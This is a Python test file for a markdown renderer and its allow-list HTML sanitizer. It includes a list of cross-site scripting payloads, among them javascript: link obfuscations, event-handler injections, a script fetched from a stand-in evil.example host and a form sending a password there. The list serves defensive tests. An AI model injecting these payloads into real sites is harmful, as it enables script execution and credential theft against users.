"""User text: markdown through an allow-list sanitizer, and short plain-text excerpts."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cocreate.core.text import plain_text, render_markdown

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p onclick="alert(1)">hi</p>',
    "![x](https://evil.example/track.png)",
    '[x](https://ok.example "title" onmouseover=alert(1))',
    '<object data="evil.swf"></object>',
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
    "```\n<script>alert(1)</script>\n```",
    "<!-- <script>alert(1)</script> -->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]


def _tags(html: str) -> set[str]:
    return {t.lower() for t in re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9]*)", html)}


def _attributes(html: str) -> set[str]:
    names: set[str] = set()
    for tag in re.findall(r"<[a-zA-Z][^>]*>", html):
        names |= {a.lower() for a in re.findall(r"\s([a-zA-Z-]+)=", tag)}
    return names


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_scripts_handlers_and_dangerous_links_never_survive(payload: str) -> None:
    html = render_markdown(f"Hello {payload} world\n\n{payload}")
    assert _tags(html) <= {"p", "a", "pre", "code", "em", "strong"}, html
    assert not {a for a in _attributes(html) if a.startswith("on")}, html
    assert "style" not in _attributes(html) and "src" not in _attributes(html)
    for tag in re.findall(r"<a\s[^>]*>", html):
        href = re.search(r'href="([^"]*)"', tag)
        scheme = re.match(r"\s*([a-zA-Z][a-zA-Z0-9+.-]*):", href.group(1)) if href else None
        assert scheme is None or scheme.group(1).lower() in {"http", "https", "mailto"}, html


def test_allowed_formatting_is_kept() -> None:
    html = render_markdown(
        "# Title\n\n## Sub\n\nSome **bold**, *em*, ~~gone~~ and `code`.\n\n"
        "- one\n- two\n\n3. three\n4. four\n\n> quoted\n\n```\nblock\n```\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
        '[site](https://example.com "Example") and <mailto:hi@example.com>\n\n---'
    )
    assert "<h3>Title</h3>" in html and "<h4>Sub</h4>" in html  # user headings never outrank the page's
    assert "<h1>" not in html and "<h2>" not in html
    for fragment in (
        "<strong>bold</strong>",
        "<em>em</em>",
        "<s>gone</s>",
        "<code>code</code>",
        "<li>one</li>",
        '<ol start="3">',
        "<blockquote>",
        "<pre><code>block\n</code></pre>",
        "<table>",
        "<th>a</th>",
        "<td>2</td>",
        "<hr>",
    ):
        assert fragment in html, fragment
    link = re.search(r'<a href="https://example.com"[^>]*>site</a>', html)
    assert link and 'title="Example"' in link.group(0)
    assert 'rel="nofollow ugc noopener noreferrer"' in link.group(0)
    assert 'href="mailto:hi@example.com"' in html


def test_raw_html_is_shown_as_text_not_dropped() -> None:
    assert render_markdown("a <b>b</b>") == "<p>a &lt;b&gt;b&lt;/b&gt;</p>\n"


@pytest.mark.parametrize("empty", ["", None])
def test_empty_text_renders_nothing(empty: str | None) -> None:
    assert render_markdown(empty) == ""  # type: ignore[arg-type]
    assert plain_text(empty) == ""  # type: ignore[arg-type]


@given(st.text(max_size=300))
def test_render_markdown_never_emits_a_script_or_handler(source: str) -> None:
    html = render_markdown(source)
    assert "script" not in _tags(html)
    assert not {a for a in _attributes(html) if a.startswith("on")}


def test_plain_text_strips_markup_and_collapses_space() -> None:
    assert plain_text("# Big news\n\nWe **launched** the [crane](https://x.example).\n\n- a\n- b") == (
        "Big news We launched the crane. a b"
    )


def test_plain_text_is_text_not_html() -> None:
    # A plain-text excerpt goes into emails and is escaped by templates: entities would show literally.
    assert (
        plain_text("Fish & chips <3, \"quoted\" and 'single'") == "Fish & chips <3, \"quoted\" and 'single'"
    )
    assert plain_text("<script>alert(1)</script> hi") == "<script>alert(1)</script> hi"


def test_plain_text_is_cut_at_the_limit() -> None:
    text = plain_text("word " * 100, limit=20)
    assert len(text) <= 20 and text.endswith("…") and text == "word word word word…"
    assert plain_text("short", limit=20) == "short"
